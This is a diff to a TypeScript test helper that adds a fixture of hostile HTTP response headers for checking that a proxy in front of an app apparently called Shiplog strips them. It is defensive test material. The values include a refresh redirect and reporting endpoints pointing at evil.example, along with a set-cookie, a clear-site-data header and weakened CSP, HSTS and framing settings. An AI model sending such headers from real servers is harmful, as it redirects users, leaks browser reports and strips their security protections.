@@ -65,3 +65,25 @@ export function rawRequest(
 export function everything(response: RawResponse): string {
   return JSON.stringify(response.headers) + response.body
 }
+
+/**
+ * Response headers a hostile or broken upstream could send, each of which a browser would act on
+ * for Shiplog's own origin. No proxy in front of Shiplog may pass any of them on.
+ */
+export const HOSTILE_RESPONSE_HEADERS: Readonly<Record<string, string>> = {
+  refresh: '0; url=https://evil.example/',
+  'clear-site-data': '"cache", "cookies", "storage"',
+  nel: '{"report_to":"default","max_age":31536000}',
+  'report-to':
+    '{"group":"default","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}',
+  'reporting-endpoints': 'default="https://evil.example/r"',
+  'cache-control': 'public, max-age=31536000',
+  'content-security-policy': 'default-src *',
+  'content-disposition': 'inline',
+  'access-control-allow-credentials': 'true',
+  'strict-transport-security': 'max-age=0',
+  'x-frame-options': 'ALLOWALL',
+  'permissions-policy': 'camera=*',
+  'service-worker-allowed': '/',
+  'set-cookie': 'hostile=1; Path=/',
+}
